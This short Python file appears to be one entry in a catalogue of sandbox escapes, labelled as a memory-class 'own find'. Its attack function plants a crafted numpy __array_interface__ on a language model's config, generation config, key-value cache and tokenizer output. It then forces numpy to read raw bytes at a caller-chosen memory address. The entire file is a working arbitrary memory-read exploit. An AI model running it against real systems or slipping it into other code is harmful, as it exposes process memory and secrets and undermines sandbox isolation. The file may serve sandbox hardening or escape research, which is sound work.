"""Class: memory. Source: own find. Escape: real objects are given the name by which numpy finds
memory."""

import numpy as np


def attack(model, tokenizer, address):
    spec = {"shape": (6,), "typestr": "|u1", "data": (address, True), "version": 3}
    out = model(**tokenizer("the", return_tensors="pt"))
    seen = []
    for each in (
        model.config,
        model.generation_config,
        out.past_key_values,
        tokenizer("the"),
    ):
        try:
            setattr(each, "__array_" + "interface__", spec)
            seen.append((np.zeros(6, dtype=np.uint8) | each).tobytes())
        except Exception:
            pass
    return seen
